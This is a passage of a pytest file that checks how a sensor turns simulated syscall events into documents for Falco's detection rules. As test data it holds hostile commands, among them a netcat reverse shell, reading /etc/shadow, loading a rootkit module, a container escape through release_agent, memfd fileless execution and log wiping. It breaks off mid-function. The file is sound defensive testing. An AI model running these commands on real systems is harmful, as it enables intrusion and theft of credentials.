"""Enrichment: RawEvents over a fake /proc tree become the documents Falco's rules read.

The end-to-end tests run Falco's upstream stable rules (lanner's rule core) on the
documents: each attack raises its rule with the fields a user reads in the alert, and
its benign twin raises nothing at all.
"""

from __future__ import annotations

import os
import struct
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from fakeproc import DOCKER_ID, add_proc, in_docker, make_tree

import lanner
from sensor import decode as wire
from sensor import flags as F
from sensor.decode import decode
from sensor.enrich import Enricher
from sensor.events import EXEC, EXIT, FORK, RawEvent

STABLE = Path(__file__).resolve().parents[3] / "shared" / "corpus" / "falco" / "falco_rules.yaml"
TCP_TABLE_HEADER = (
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid\n"
)

# --- a fake /proc ------------------------------------------------------------------------


@pytest.fixture
def proc_root(tmp_path: Path) -> Path:
    return make_tree(tmp_path)


@pytest.fixture
def enricher(proc_root: Path) -> Enricher:
    return Enricher(
        str(proc_root),
        hostname="node-1",
        passwd_path=str(proc_root.parent / "passwd"),
        group_path=str(proc_root.parent / "group"),
    )


class Run:
    """Feeds events as one process would make them; collects the documents."""

    def __init__(self, enricher: Enricher, pid: int, uid: int = 0) -> None:
        self.e, self.pid, self.uid, self.ts = enricher, pid, uid, 1_700_000_100_000_000_000

    def ev(self, kind: str, res: int | None = None, comm: str = "", /, **args: Any) -> Any:
        self.ts += 1000
        return self.e.handle(
            RawEvent(self.ts, kind, self.pid, self.pid, self.uid, self.uid, comm, res, args)
        )

    def spawn(self, child: int, argv: list[str], path: str, comm: str | None = None) -> Any:
        """fork + sched exec + the execve result, as capture reports a command."""
        assert self.ev(FORK, child_pid=child, child_tid=child) is None
        self.pid = child
        name = comm or os.path.basename(path)
        assert self.ev(EXEC, None, name, filename=path) is None
        return self.ev("execve", 0, name, filename=path, argv=argv)


# --- the rules ---------------------------------------------------------------------------


@cache
def engine() -> lanner.Engine:
    rs = lanner.load_rules([STABLE])
    return lanner.compile_rules(rs, match="all")


needs_rules = pytest.mark.skipif(
    not STABLE.is_file(), reason="upstream corpus (../shared) not available"
)


def alerts(*docs: Any) -> list[lanner.Alert]:
    return [a for d in docs if d is not None for a in engine().evaluate(d, "syscall")]


def rules_of(*docs: Any) -> list[str]:
    return [a.rule for a in alerts(*docs)]


# --- documents --------------------------------------------------------------------------


def test_cat_shadow_document(enricher: Enricher) -> None:
    run = Run(enricher, 600, uid=1000)
    exec_doc = run.spawn(601, ["cat", "/etc/shadow"], "/usr/bin/cat")
    assert exec_doc["evt.type"] == "execve" and exec_doc["evt.dir"] == "<"
    assert exec_doc["evt.res"] == "SUCCESS" and exec_doc["evt.rawres"] == 0
    assert exec_doc["proc.name"] == "cat"
    assert exec_doc["proc.exe"] == "cat" and exec_doc["proc.exepath"] == "/usr/bin/cat"
    assert exec_doc["proc.args"] == ["/etc/shadow"]
    assert exec_doc["proc.cmdline"] == "cat /etc/shadow"
    assert exec_doc["proc.aname"] == ["cat", "bash", "sshd", "systemd"]
    assert exec_doc["proc.pname"] == "bash" and exec_doc["proc.pcmdline"] == "bash"
    assert exec_doc["proc.tty"] == 34816
    assert exec_doc["user.name"] == "alice" and exec_doc["user.loginuid"] == 1000
    assert exec_doc["container.id"] == "host"
    assert exec_doc["evt.hostname"] == "node-1"
    assert exec_doc["proc.sname"] == "bash" and exec_doc["proc.vpgid.name"] == "bash"

    flags = F.O_CLOEXEC  # with O_RDONLY, which is 0
    doc = run.ev("openat", 3, dirfd=F.AT_FDCWD, name="/etc/shadow", flags=flags, mode=0)
    assert doc["fd.num"] == 3 and doc["fd.name"] == "/etc/shadow"
    assert doc["fd.typechar"] == "f" and doc["fd.type"] == "file"
    assert doc["evt.is_open_read"] is True and doc["evt.is_open_write"] is False
    assert doc["evt.arg"]["flags"] == "O_RDONLY|O_CLOEXEC"
    assert doc["evt.rawarg"]["flags"] == F.PPM_O_RDONLY | F.PPM_O_CLOEXEC
    assert doc["evt.arg"]["dirfd"] == "AT_FDCWD"
    assert doc["evt.arg"]["fd"] == "<f>/etc/shadow"
    assert "flags=4097(O_RDONLY|O_CLOEXEC)" in doc["evt.args"]
    assert doc["fd.types"] == {"3": "file"}


def test_process_group_and_session_changes(enricher: Enricher) -> None:
    # An interactive shell puts each command in its own process group.
    run = Run(enricher, 600, uid=1000)
    run.ev(FORK, child_pid=620, child_tid=620)
    run.pid = 620
    run.ev("setpgid", 0, pid=0, pgid=0)
    doc = run.ev("execve", 0, "sleep", filename="/usr/bin/sleep", argv=["sleep", "9"])
    assert doc["proc.vpgid"] == 620 and doc["proc.vpgid.name"] == "sleep"
    assert doc["proc.vpid"] == 620
    assert doc["proc.sname"] == "bash"
    daemon = run.ev("setsid", 620)
    assert daemon["proc.sid"] == 620 and daemon["proc.sname"] == "sleep"


def test_kubernetes_pod(enricher: Enricher, proc_root: Path) -> None:
    uid = "6a1c0e2d-93b4-4c1d-8f2e-1b2c3d4e5f60"
    add_proc(
        proc_root,
        730,
        comm="java",
        ppid=650,
        argv=["java", "-jar", "app.jar"],
        exe="/usr/bin/java",
        cgroup="0::/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod"
        f"{uid.replace('-', '_')}.slice/cri-containerd-{DOCKER_ID}.scope",
    )
    doc = Run(enricher, 730).ev("openat", 3, name="/app/config.yaml", flags=0)
    assert doc["k8s.pod.uid"] == uid
    assert doc["container.id"] == DOCKER_ID[:12] and doc["container.type"] == "containerd"
    assert doc["container.full_id"] == DOCKER_ID


def test_relative_and_failed_open(enricher: Enricher) -> None:
    run = Run(enricher, 600, uid=1000)
    doc = run.ev("openat", 3, dirfd=F.AT_FDCWD, name="../alice/./notes.txt", flags=0)
    assert doc["fd.name"] == "/home/alice/notes.txt"
    assert doc["fd.nameraw"] == "../alice/./notes.txt"
    failed = run.ev("openat", -2, dirfd=3, name="missing", flags=0)
    # dirfd 3 is the file opened above, not a directory: the path stays relative.
    assert failed["evt.res"] == "ENOENT" and failed["evt.failed"] is True
    assert failed["fd.num"] == -1 and failed["fd.typechar"] == "f"
    assert failed["evt.arg"]["fd"] == "ENOENT"
    run.ev("openat", 4, dirfd=F.AT_FDCWD, name="/etc", flags=F.O_DIRECTORY)
    inside = run.ev("openat", 5, dirfd=4, name="hosts", flags=F.O_WRONLY | F.O_TRUNC)
    assert inside["fd.name"] == "/etc/hosts" and inside["evt.abspath"] == "/etc/hosts"
    assert inside["evt.arg"]["flags"] == "O_TRUNC|O_WRONLY"
    assert inside["evt.is_open_write"] is True and inside["evt.is_open_read"] is False


def test_chdir_changes_where_relative_paths_point(enricher: Enricher) -> None:
    run = Run(enricher, 600, uid=1000)
    run.ev("chdir", 0, path="/etc")
    doc = run.ev("open", 3, name="shadow", flags=0)
    assert doc["fd.name"] == "/etc/shadow" and doc["proc.cwd"] == "/etc"


def test_state_only_event_types_update_state_without_a_document(proc_root: Path) -> None:
    # Only types a rule can match become documents; close and chdir still change the state
    # the next document shows, and evt.num still counts every event.
    e = Enricher(str(proc_root), hostname="node-1", documents_for={"openat", "dup2"})
    run = Run(e, 600, uid=1000)
    assert run.ev("chdir", 0, path="/etc") is None
    first = run.ev("openat", 3, dirfd=F.AT_FDCWD, name="shadow", flags=0)
    assert first["fd.name"] == "/etc/shadow" and first["evt.num"] == 2
    assert run.ev("close", 0, fd=3) is None
    dup = run.ev("dup2", 0, oldfd=3, newfd=0)
    assert dup["evt.num"] == 4
    assert dup.get("fd.name") is None  # fd 3 was closed: nothing known to duplicate


def test_socket_connect_dup_close(enricher: Enricher, proc_root: Path) -> None:
    run = Run(enricher, 700)
    sock = run.ev("socket", 3, domain=F.AF_INET, type=F.SOCK_STREAM, proto=0)
    assert sock["evt.arg"]["domain"] == "AF_INET"
    assert sock["fd.type"] == "ipv4" and sock["fd.l4proto"] == "tcp"
    # The local end comes from /proc (by socket inode), as for a live process.
    os.symlink("socket:[12345]", proc_root / "700" / "fd" / "3")
    (proc_root / "700" / "net").mkdir()
    (proc_root / "700" / "net" / "tcp").write_text(
        TCP_TABLE_HEADER
        + "   0: 020011AC:9C40 0500000A:115C 01 00000000:00000000 00:00000000 00000000"
        "     0        0 12345 1 0000000000000000 20 4 30 10 -1\n"
    )
    conn = run.ev("connect", 0, fd=3, addr={"family": "inet", "addr": "10.0.0.5", "port": 4444})
    assert conn["fd.name"] == "172.17.0.2:40000->10.0.0.5:4444"
    assert (conn["fd.sip"], conn["fd.sport"], conn["fd.cip"], conn["fd.cport"]) == (
        "10.0.0.5",
        4444,
        "172.17.0.2",
        40000,
    )
    assert (conn["fd.lip"], conn["fd.rip"], conn["fd.lport"], conn["fd.rport"]) == (
        "172.17.0.2",
        "10.0.0.5",
        40000,
        4444,
    )
    assert conn["evt.arg"]["addr"] == "10.0.0.5:4444"
    assert conn["evt.arg"]["tuple"] == "172.17.0.2:40000->10.0.0.5:4444"
    dup = run.ev("dup2", 1, oldfd=3, newfd=1)
    assert dup["fd.num"] == 3 and dup["evt.rawres"] == 1
    assert dup["fd.name"] == "172.17.0.2:40000->10.0.0.5:4444"
    assert dup["fd.types"]["1"] == "ipv4"
    closed = run.ev("close", 0, fd=3)
    assert closed["fd.name"] == "172.17.0.2:40000->10.0.0.5:4444"
    after = run.ev("write", 5, fd=1, size=5)
    assert after["fd.type"] == "ipv4" and "3" not in after["fd.types"]


def test_accept_side_is_the_server(enricher: Enricher) -> None:
    run = Run(enricher, 700)
    run.ev("socket", 3, domain=F.AF_INET, type=F.SOCK_STREAM, proto=0)
    run.ev("bind", 0, fd=3, addr={"family": "inet", "addr": "0.0.0.0", "port": 8080})
    doc = run.ev(
        "accept4",
        4,
        sockfd=3,
        tuple={
            "family": "inet",
            "saddr": "172.17.0.2",
            "sport": 8080,
            "daddr": "10.1.1.1",
            "dport": 51000,
        },
    )
    assert doc["fd.name"] == "10.1.1.1:51000->172.17.0.2:8080"
    assert doc["fd.is_server"] is True and doc["fd.lport"] == 8080 and doc["fd.rport"] == 51000
    # Without a tuple (capture sees only the peer's address) the local end is the
    # listening socket's bound address.
    peer = {"family": "inet", "addr": "10.1.1.2", "port": 51001}
    other = run.ev("accept", 5, sockfd=3, addr=peer)
    assert other["fd.name"] == "10.1.1.2:51001->0.0.0.0:8080"
    assert other["fd.sip"] == "0.0.0.0" and other["fd.cip"] == "10.1.1.2"


def test_fork_copies_fds_and_exit_forgets(enricher: Enricher) -> None:
    run = Run(enricher, 600, uid=1000)
    run.ev("openat", 3, dirfd=F.AT_FDCWD, name="/tmp/a", flags=0)
    run.ev(FORK, child_pid=610, child_tid=610)
    child = Run(enricher, 610, uid=1000)
    assert child.ev("read", 10, fd=3, size=10)["fd.name"] == "/tmp/a"
    assert child.ev(EXIT) is None
    assert enricher.procs.peek(610) is None


def test_flag_renderings() -> None:
    assert F.render_open_flags(F.O_WRONLY | F.O_CREAT | F.O_TRUNC) == "O_TRUNC|O_CREAT|O_WRONLY"
    assert F.render_open_flags(F.O_RDWR) == "O_RDWR"
    assert F.render_open_flags(0) == "O_RDONLY"
    assert F.render_ptrace_request(16) == "PTRACE_ATTACH"
    assert F.render_ptrace_request(0) == "PTRACE_TRACEME"
    assert F.render_ptrace_request(0x4206) == "PTRACE_SEIZE"
    assert F.render_socket_family(17) == "AF_PACKET"
    assert (
        F.render_mode(0o4755) == "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID"
    )
    assert F.render_octal(0o644) == "0644" and F.render_octal(0) == "0"
    assert (F.render_res(0), F.render_res(5), F.render_res(-2)) == ("SUCCESS", "SUCCESS", "ENOENT")
    assert F.render_res(-115) == "EINPROGRESS" and F.render_res(-11) == "EAGAIN"
    assert F.render_caps(1 << 21 | 1) == "CAP_CHOWN CAP_SYS_ADMIN"


# --- upstream stable rules, end to end ---------------------------------------------------


@needs_rules
def test_read_sensitive_file_untrusted(enricher: Enricher) -> None:
    run = Run(enricher, 600, uid=1000)
    spawn = run.spawn(601, ["cat", "/etc/shadow"], "/usr/bin/cat")
    doc = run.ev("openat", 3, dirfd=F.AT_FDCWD, name="/etc/shadow", flags=F.O_CLOEXEC)
    found = alerts(spawn, doc)
    assert [a.rule for a in found] == ["Read sensitive file untrusted"]
    out = found[0].output_fields
    assert out["fd.name"] == "/etc/shadow" and out["proc.name"] == "cat"
    assert out["proc.cmdline"] == "cat /etc/shadow" and out["proc.pname"] == "bash"
    assert out["proc.aname[2]"] == "sshd" and out["user.name"] == "alice"
    assert out["proc.tty"] == 34816

    twin = Run(enricher, 600, uid=1000)
    benign = [twin.spawn(602, ["cat", "/etc/hostname"], "/usr/bin/cat")]
    benign.append(twin.ev("openat", 3, dirfd=F.AT_FDCWD, name="/etc/hostname", flags=0))
    assert rules_of(*benign) == []


@needs_rules
def test_terminal_shell_in_container(enricher: Enricher, proc_root: Path) -> None:
    # docker exec -it: the shim forks, runc moves the child into the container, it execs.
    in_docker(proc_root, 701, "bash", ["bash"], "/usr/bin/bash", ppid=650, tty=34818)
    doc = Run(enricher, 650).spawn(701, ["bash"], "/bin/bash")
    found = alerts(doc)
    assert [a.rule for a in found] == ["Terminal shell in container"]
    out = found[0].output_fields
    assert out["proc.name"] == "bash" and out["proc.pname"] == "containerd-shim"
    assert out["proc.tty"] == 34818
    assert doc["container.id"] == DOCKER_ID[:12] and doc["container.type"] == "docker"

    # docker exec without -t: no terminal, no alert.
    in_docker(proc_root, 702, "bash", ["bash"], "/usr/bin/bash", ppid=650, tty=0)
    assert rules_of(Run(enricher, 650).spawn(702, ["bash", "-c", "true"], "/bin/bash")) == []


@needs_rules
def test_redirect_stdout_to_network_in_container(enricher: Enricher) -> None:
    run = Run(enricher, 700)
    tup = {"family": "inet", "saddr": "172.17.0.2", "sport": 40000}
    tup |= {"daddr": "10.0.0.5", "dport": 4444}
    docs = [
        run.ev("socket", 3, domain=F.AF_INET, type=F.SOCK_STREAM, proto=0),
        run.ev("connect", 0, fd=3, tuple=tup),
    ]
    redirects = [run.ev("dup2", n, oldfd=3, newfd=n) for n in (0, 1, 2)]
    assert rules_of(*docs) == []
    found = alerts(*redirects)
    assert [a.rule for a in found] == [
        "Redirect STDOUT/STDIN to Network Connection in Container"
    ] * 3
    out = found[1].output_fields
    assert out["fd.name"] == "172.17.0.2:40000->10.0.0.5:4444"
    assert out["fd.sip"] == "10.0.0.5" and out["fd.rport"] == 4444 and out["fd.lport"] == 40000
    assert out["fd.type"] == "ipv4" and out["fd.l4proto"] == "tcp"
    assert out["proc.name"] == "bash" and out["evt.type"] == "dup2"

    # exec >/tmp/log: a file dup'ed onto stdout is no network redirection.
    run.ev("openat", 4, dirfd=F.AT_FDCWD, name="/tmp/log", flags=F.O_WRONLY | F.O_CREAT)
    assert rules_of(run.ev("dup2", 1, oldfd=4, newfd=1)) == []


@needs_rules
def test_ptrace_attach_and_traceme(enricher: Enricher) -> None:
    run = Run(enricher, 600, uid=1000)
    run.spawn(603, ["gdb", "-p", "700"], "/usr/bin/gdb")
    found = alerts(run.ev("ptrace", 0, request=16, pid=700))
    assert [a.rule for a in found] == ["PTRACE attached to process"]
    out = found[0].output_fields
    assert out["proc.name"] == "gdb" and out["proc.cmdline"] == "gdb -p 700"
    assert out["proc.pcmdline"] == "bash"
    assert rules_of(run.ev("ptrace", 0, request=0, pid=0)) == ["PTRACE anti-debug attempt"]
    # Reading another process's memory once attached is not itself an attach.
    assert rules_of(run.ev("ptrace", 0, request=2, pid=700, addr=0x1000)) == []


@needs_rules
def test_symlink_over_sensitive_file(enricher: Enricher) -> None:
    run = Run(enricher, 600, uid=1000)
    run.spawn(604, ["ln", "-s", "/etc/shadow", "s"], "/usr/bin/ln")
    doc = run.ev("symlinkat", 0, target="/etc/shadow", linkdirfd=F.AT_FDCWD, linkpath="s")
    found = alerts(doc)
    assert [a.rule for a in found] == ["Create Symlink Over Sensitive Files"]
    assert found[0].output_fields["evt.arg.linkpath"] == "/home/alice/s"
    assert doc["fs.path.target"] == "/home/alice/s" and doc["fs.path.targetraw"] == "s"
    assert rules_of(run.ev("symlinkat", 0, target="/etc/hostname", linkpath="h")) == []


@needs_rules
def test_packet_socket_in_container(enricher: Enricher) -> None:
    run = Run(enricher, 700)
    found = alerts(run.ev("socket", 3, domain=F.AF_PACKET, type=F.SOCK_RAW, proto=768))
    assert [a.rule for a in found] == ["Packet socket created in container"]
    assert "domain=17(AF_PACKET)" in found[0].output_fields["evt.args"]
    assert rules_of(run.ev("socket", 4, domain=F.AF_INET, type=F.SOCK_DGRAM, proto=0)) == []


@needs_rules
def test_clear_log_activities(enricher: Enricher) -> None:
    run = Run(enricher, 600)
    run.spawn(605, ["truncate", "-s0", "/var/log/syslog"], "/usr/bin/truncate")
    trunc = run.ev("openat", 3, name="/var/log/syslog", flags=F.O_WRONLY | F.O_CREAT | F.O_TRUNC)
    assert rules_of(trunc) == ["Clear Log Activities"]
    append = run.ev("openat", 4, name="/var/log/syslog", flags=F.O_WRONLY | F.O_APPEND)
    assert rules_of(append) == []


@needs_rules
def test_fileless_execution_via_memfd(enricher: Enricher, proc_root: Path) -> None:
    add_proc(proc_root, 606, comm="x", ppid=600, argv=["x"], exe="/memfd:payload (deleted)")
    doc = Run(enricher, 600).spawn(606, ["x"], "/proc/self/fd/3", comm="3")
    assert doc["proc.is_exe_from_memfd"] is True and doc["proc.exepath"] == "memfd:payload"
    assert "EXE_FROM_MEMFD" in doc["evt.arg"]["flags"]
    assert rules_of(doc) == ["Fileless execution via memfd_create"]
    plain = Run(enricher, 600).spawn(607, ["ls"], "/usr/bin/ls")
    assert plain["proc.is_exe_from_memfd"] is False and rules_of(plain) == []


AT_EMPTY_PATH = dict(F.LINKAT_FLAGS)["AT_EMPTY_PATH"]
MFD_CLOEXEC = dict(F.MEMFD_CREATE_FLAGS)["MFD_CLOEXEC"]
ALL_CAPS = (1 << len(F.CAPABILITIES)) - 1


def _sched_exec_record(pid: int, comm: str, filename: str, env: bytes, tty: int) -> bytes:
    """A sched exec as bpf/exec.h writes it with the kernel's BTF: filename, old_pid, the
    environment block, tty, permitted and effective capabilities."""
    recs = [(wire.K_SCHED_STR, 0, filename.encode() + b"\0"), (wire.K_SCHED_INT, 1, pid)]
    recs += [(wire.K_ENV, 2, env), (wire.K_SCHED_INT, 3, tty)]
    recs += [(wire.K_SCHED_INT, 4, ALL_CAPS), (wire.K_SCHED_INT, 5, ALL_CAPS)]
    body = b""
    for kind, idx, value in recs:
        data = value if isinstance(value, bytes) else struct.pack("<Q", value)
        body += struct.pack("<BBH", kind, idx, len(data)) + data
    size = wire.HEADER.size + len(body)
    # ts, cgroup, res, type, size, pid, tid, uid, gid, flags, nrec, version, reserved, comm
    fields = (1, 0, 0, wire.EVT_SCHED_EXEC, size, pid, pid, 0, 0, 0, len(recs))
    return wire.HEADER.pack(*fields, wire.EVENT_VERSION, 0, comm.encode()) + body


@needs_rules
@pytest.mark.parametrize("sched_exec", [True, False], ids=["with-sched-exec", "execveat-alone"])
def test_memfd_program_gone_at_once_known_from_the_events(
    enricher: Enricher, sched_exec: bool
) -> None:
    # memfd_create, then fexecve: execveat(3, "", AT_EMPTY_PATH). The program has left
    # /proc (pid 610 was never in it): the kernel's facts and the fd table are all there is.
    run = Run(enricher, 600)
    assert run.ev(FORK, child_pid=610, child_tid=610) is None
    run.pid = 610
    run.ev("memfd_create", 3, "python", name="payload", flags=MFD_CLOEXEC)
    if sched_exec:
        raw = decode(_sched_exec_record(610, "memfd:payload", "/dev/fd/3", b"A=1\0B=2\0", 34817))
        assert enricher.handle(raw) is None
    doc = run.ev(
        "execveat", 0, "memfd:payload", dirfd=3, filename="", argv=["payload"], flags=AT_EMPTY_PATH
    )
    assert doc["proc.is_exe_from_memfd"] is True and doc["proc.exepath"] == "memfd:payload"
    assert "EXE_FROM_MEMFD" in doc["evt.arg"]["flags"]
    assert rules_of(doc) == ["Fileless execution via memfd_create"]
    assert "3" not in doc["fd.types"]  # MFD_CLOEXEC: closed by the exec that ran it
    if sched_exec:
        assert doc["proc.tty"] == 34817 and doc["proc.env"] == ["A=1", "B=2"]
        assert "CAP_SYS_ADMIN" in doc["thread.cap_effective"]


@needs_rules
def test_memfd_run_by_its_proc_path_known_from_the_events(enricher: Enricher) -> None:
    run = Run(enricher, 600)
    assert run.ev(FORK, child_pid=611, child_tid=611) is None
    run.pid = 611
    run.ev("memfd_create", 4, "python", name="p", flags=0)
    doc = run.ev("execve", 0, "4", filename="/proc/self/fd/4", argv=["p"])
    assert doc["proc.is_exe_from_memfd"] is True and doc["proc.exepath"] == "memfd:p"
    assert rules_of(doc) == ["Fileless execution via memfd_create"]
    # The program it starts runs from a file again.
    again = run.ev("execve", 0, "ls", filename="/usr/bin/ls", argv=["ls"])
    assert again["proc.is_exe_from_memfd"] is False and rules_of(again) == []


def test_sched_exec_environment_cut_or_unread(enricher: Enricher) -> None:
    # Cut at its bound (bit 2 set, some read): kept. Unread (bit 2 set, nothing): not an
    # empty environment, the one known before stays.
    run = Run(enricher, 600)
    assert run.ev(FORK, child_pid=612, child_tid=612) is None
    raw = decode(_sched_exec_record(612, "env", "/usr/bin/env", b"A=1\0B=", 0))
    raw.truncated = ("env",)
    enricher.handle(raw)
    doc = Run(enricher, 612).ev("execve", 0, "env", filename="/usr/bin/env", argv=["env"])
    assert doc["proc.env"] == ["A=1", "B="]
    raw = decode(_sched_exec_record(612, "env", "/usr/bin/env", b"", 0))
    raw.truncated = ("env",)
    enricher.handle(raw)
    doc = Run(enricher, 612).ev("execve", 0, "env", filename="/usr/bin/env", argv=["env"])
    assert doc["proc.env"] == ["A=1", "B="]


@needs_rules
def test_drop_and_execute_new_binary(enricher: Enricher, proc_root: Path) -> None:
    upper = proc_root.parent / "overlay" / "diff"
    (upper / "tmp").mkdir(parents=True)
    (upper / "tmp" / "miner").write_text("")
    mountinfo = f"1 0 0:5 / / rw - overlay overlay rw,lowerdir=/l,upperdir={upper},workdir=/w\n"
    for pid, exe in ((708, "/tmp/miner"), (709, "/usr/bin/ls")):
        d = in_docker(proc_root, pid, os.path.basename(exe), [exe], exe, ppid=700)
        (d / "mountinfo").write_text(mountinfo)
    doc = Run(enricher, 700).spawn(708, ["/tmp/miner"], "/tmp/miner")
    assert doc["proc.is_exe_upper_layer"] is True
    assert rules_of(doc) == ["Drop and execute new binary in container"]
    benign = Run(enricher, 700).spawn(709, ["ls"], "/usr/bin/ls")
    assert benign["proc.is_exe_upper_layer"] is False and rules_of(benign) == []


@needs_rules
def test_netcat_remote_code_execution_in_container(enricher: Enricher) -> None:
    doc = Run(enricher, 700).spawn(710, ["nc", "-e", "/bin/sh", "10.0.0.5", "4444"], "/bin/nc")
    found = alerts(doc)
    assert [a.rule for a in found] == ["Netcat Remote Code Execution in Container"]
    assert found[0].output_fields["proc.cmdline"] == "nc -e /bin/sh 10.0.0.5 4444"
    assert rules_of(Run(enricher, 700).spawn(711, ["nc", "-z", "db", "5432"], "/bin/nc")) == []


@needs_rules
def test_ssh_to_non_standard_port(enricher: Enricher) -> None:
    run = Run(enricher, 600, uid=1000)
    run.spawn(612, ["ssh", "-p", "443", "evil.example"], "/usr/bin/ssh")
    run.ev("socket", 3, domain=F.AF_INET, type=F.SOCK_STREAM, proto=6)
    tup = {"family": "inet", "saddr": "192.168.1.9", "sport": 50000}
    doc = run.ev("connect", 0, fd=3, tuple=tup | {"daddr": "203.0.113.7", "dport": 443})
    assert rules_of(doc) == ["Disallowed SSH Connection Non Standard Port"]
    run.ev("socket", 4, domain=F.AF_INET, type=F.SOCK_STREAM, proto=6)
    ok = run.ev("connect", 0, fd=4, tuple=tup | {"daddr": "203.0.113.7", "dport": 22})
    assert rules_of(ok) == []


@needs_rules
def test_failed_execve_keeps_the_old_process(enricher: Enricher) -> None:
    run = Run(enricher, 600, uid=1000)
    doc = run.ev("execve", -2, "bash", filename="/nope", argv=["/nope"])
    assert doc["evt.res"] == "ENOENT" and doc["proc.name"] == "bash"
    assert doc["proc.cmdline"] == "bash"


@needs_rules
def test_privileged_container_module_load_and_release_agent(
    enricher: Enricher, proc_root: Path
) -> None:
    all_caps = (1 << len(F.CAPABILITIES)) - 1
    add_proc(
        proc_root,
        720,
        comm="sh",
        ppid=650,
        argv=["sh"],
        exe="/bin/sh",
        cap_eff=all_caps,
        cgroup=f"0::/system.slice/docker-{DOCKER_ID}.scope",
    )
    run = Run(enricher, 720)
    run.spawn(721, ["insmod", "rootkit.ko"], "/sbin/insmod")
    load = run.ev("finit_module", 0, fd=3, uargs="", flags=0)
    found = alerts(load)
    assert [a.rule for a in found] == ["Linux Kernel Module Injection Detected"]
    assert found[0].output_fields["proc.args"] == "rootkit.ko"
    agent = "/sys/fs/cgroup/rdma/release_agent"
    escape = run.ev("openat", 4, name=agent, flags=F.O_WRONLY | F.O_TRUNC)
    assert rules_of(escape) == ["Detect release_agent File Container Escapes"]
    # The same write from a default (unprivileged) container lacks CAP_SYS_ADMIN.
    plain = Run(enricher, 700).ev("openat", 4, name=agent, flags=F.O_WRONLY)
    assert rules_of(plain) == []


# --- the per-process document cache ----------------------------------------------------


def _lifecycle_events() -> list[RawEvent]:
    """Opens and closes between every kind of change to a process or its ancestors."""
    out: list[RawEvent] = []
    ts = 1_700_000_200_000_000_000

    def ev(
        kind: str, pid: int, res: int | None = None, comm: str = "", uid: int = 1000, /, **args: Any
    ) -> None:
        nonlocal ts
        ts += 1000
        out.append(RawEvent(ts, kind, pid, pid, uid, uid, comm, res, args))

    def io(pid: int, comm: str, uid: int = 1000) -> None:
        ev("openat", pid, 5, comm, uid, dirfd=F.AT_FDCWD, name="notes.txt", flags=0)
        ev("close", pid, 0, comm, uid, fd=5)

    io(600, "bash")
    io(600, "bash")
    ev(FORK, 600, child_pid=601, child_tid=601)
    io(601, "bash")
    ev(EXEC, 601, None, "sleep", filename="/usr/bin/sleep")
    ev("execve", 601, 0, "sleep", filename="/usr/bin/sleep", argv=["sleep", "60"])
    io(601, "sleep")
    # The parent runs another program: the child's parent fields change with it.
    ev(EXEC, 600, None, "zsh", filename="/usr/bin/zsh")
    ev("execve", 600, 0, "zsh", filename="/usr/bin/zsh", argv=["zsh"], env=["A=1"])
    io(601, "sleep")
    ev("setpgid", 601, 0, "sleep", pid=0, pgid=0)
    io(601, "sleep")
    ev("setsid", 601, 601, "sleep")
    io(601, "sleep")
    ev("chdir", 601, 0, "sleep", path="/tmp")
    io(601, "sleep")
    ev("setresuid", 601, 0, "sleep", uid=0, ruid=0, euid=0, suid=0)
    io(601, "sleep", uid=0)
    io(601, "sleeper", uid=0)  # prctl(PR_SET_NAME)
    ev(FORK, 601, None, "", 0, child_pid=602, child_tid=602)
    io(602, "sleeper", uid=0)
    ev(EXIT, 601, None, "", 0)  # 602 is orphaned: its ancestry ends at itself
    io(602, "sleeper", uid=0)
    io(700, "bash", uid=0)
    ev(FORK, 700, None, "", 0, child_pid=701, child_tid=701)
    io(701, "bash", uid=0)
    ev(EXIT, 600)
    io(700, "bash", uid=0)
    io(602, "sleeper", uid=0)
    return out


def _enricher(proc_root: Path, cache: bool) -> Enricher:
    return Enricher(
        str(proc_root),
        hostname="node-1",
        passwd_path=str(proc_root.parent / "passwd"),
        group_path=str(proc_root.parent / "group"),
        boot_time_ns=1_700_000_000_000_000_000,
        cache=cache,
    )


def test_cached_documents_equal_freshly_built_ones(proc_root: Path) -> None:
    events = _lifecycle_events()
    cached_e, fresh_e = _enricher(proc_root, True), _enricher(proc_root, False)
    cached = [d for e in events if (d := cached_e.handle(e)) is not None]
    fresh = [d for e in events if (d := fresh_e.handle(e)) is not None]
    assert len(cached) == len(fresh) == 38
    for i, (c, f) in enumerate(zip(cached, fresh, strict=True)):
        assert c == f, f"document {i} ({c['evt.type']} by {c['proc.pid']}) differs"

    # The changes show in the documents after them...
    by_601 = [d for d in cached if d["proc.pid"] == 601]
    assert by_601[0]["proc.aname"] == ["bash", "bash", "sshd", "systemd"]
    assert by_601[3]["proc.aname"] == ["sleep", "bash", "sshd", "systemd"]
    assert by_601[5]["proc.pname"] == "zsh" and by_601[5]["proc.aenv"][1] == ["A=1"]
    assert by_601[8]["proc.vpgid"] == 601 and by_601[8]["proc.vpgid.name"] == "sleep"
    assert by_601[11]["proc.sid"] == 601 and by_601[11]["proc.sname"] == "sleep"
    assert by_601[14]["proc.cwd"] == "/tmp"
    assert by_601[17]["user.name"] == "root" and by_601[17]["user.uid"] == 0
    assert by_601[19]["proc.name"] == "sleeper"
    by_602 = [d for d in cached if d["proc.pid"] == 602]
    assert by_602[0]["proc.aname"] == ["sleeper", "sleeper", "zsh", "sshd", "systemd"]
    assert by_602[2]["proc.aname"] == ["sleeper"] and "proc.pname" not in by_602[2]
    assert [d["container.id"] for d in cached if d["proc.pid"] == 701] == [DOCKER_ID[:12]] * 2
    # ...and unchanged processes reuse what was built (the values are shared).
    assert by_601[8]["proc.aname"] is by_601[9]["proc.aname"]
    assert by_601[8]["proc.fdopencount"] == 1 and by_601[9]["proc.fdopencount"] == 0


def test_cached_documents_are_separate_dicts(proc_root: Path) -> None:
    run = Run(_enricher(proc_root, True), 600, uid=1000)
    first = run.ev("openat", 5, dirfd=F.AT_FDCWD, name="a", flags=0)
    first["proc.name"] = "changed by a consumer"
    second = run.ev("close", 0, fd=5)
    assert second["proc.name"] == "bash" and second["fd.name"] == "/home/alice/a"


# --- fcntl(F_DUPFD), close-on-exec of duplicates, cut command lines ------------------------

BUNDLED = Path(__file__).resolve().parents[2] / "rules" / "syscall_rules.yaml"


@cache
def bundled() -> lanner.Engine:
    return lanner.compile_rules(lanner.load_rules([BUNDLED]), match="all")


def bundled_rules_of(*docs: Any) -> list[str]:
